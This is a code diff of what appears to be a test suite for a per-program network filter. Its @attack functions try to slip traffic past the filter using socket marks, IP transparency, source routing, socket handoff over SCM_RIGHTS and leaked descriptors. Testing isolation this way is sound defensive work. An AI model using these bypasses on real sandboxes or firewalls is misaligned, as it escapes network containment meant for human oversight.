@@ -491,10 +491,8 @@ def _(facts, token):
 def _(facts, token):
     with socket.socket(socket.AF_INET, STREAM) as sock:
         sock.settimeout(1)
-        try:
+        with contextlib.suppress(PermissionError):
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)
-        except PermissionError:
-            pass
         sock.connect((facts["v4"], facts["port"]))
         return exchange(sock, token)
 
@@ -512,10 +510,8 @@ def _(facts, token):
 def _(facts, token):
     with socket.socket(socket.AF_INET, STREAM) as sock:
         sock.settimeout(1)
-        try:
+        with contextlib.suppress(PermissionError):
             sock.setsockopt(socket.SOL_IP, 19, 1)
-        except PermissionError:
-            pass
         sock.connect((facts["v4"], facts["port"]))
         return exchange(sock, token)
 
@@ -525,10 +521,8 @@ def _(facts, token):
     """A loose source route over the server itself."""
     route = struct.pack("!BBBB4s", 1, 131, 7, 4, socket.inet_aton(facts["v4"]))
     with socket.socket(socket.AF_INET, DGRAM) as sock:
-        try:
+        with contextlib.suppress(PermissionError):
             sock.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, route)
-        except PermissionError:
-            pass
         sock.sendto(token, (facts["v4"], facts["port"]))
         return "out"
 
@@ -608,18 +602,13 @@ def _(facts, token):
 
 @attack("handed-socket")
 def _(facts, token):
-    """Over SCM_RIGHTS between two children."""
+    """Over SCM_RIGHTS, to a program that has no rule."""
     ours, theirs = socket.socketpair()
-    if os.fork() == 0:
-        _, descriptors, _, _ = socket.recv_fds(theirs, 10, 1)
-        taken = socket.socket(fileno=descriptors[0])
-        taken.sendall(request(facts, token))
-        theirs.sendall(taken.recv(200))
-        os._exit(0)
-    with allowed_connection(facts) as sock:
+    words = [facts["speaker"], "speak", "-", "0", request(facts, token).decode()]
+    with subprocess.Popen(words, stdin=theirs, stdout=subprocess.PIPE, text=True) as speaker, allowed_connection(facts) as sock:
         socket.send_fds(ours, [b"1"], [sock.fileno()])
-    answer = ours.recv(200)
-    return "out" if b" 200 " in answer else answer.decode(errors="replace")
+        answer = speaker.communicate(timeout=10)[0].splitlines()
+    return "out" if answer and " 200 " in answer[0] else answer[0] if answer else "closed"
 
 
 @attack("descriptor-left-open")
@@ -631,4 +620,3 @@ def _(facts, token):
                 sock.settimeout(1)
                 return exchange(sock, token)
     return "none open"
-
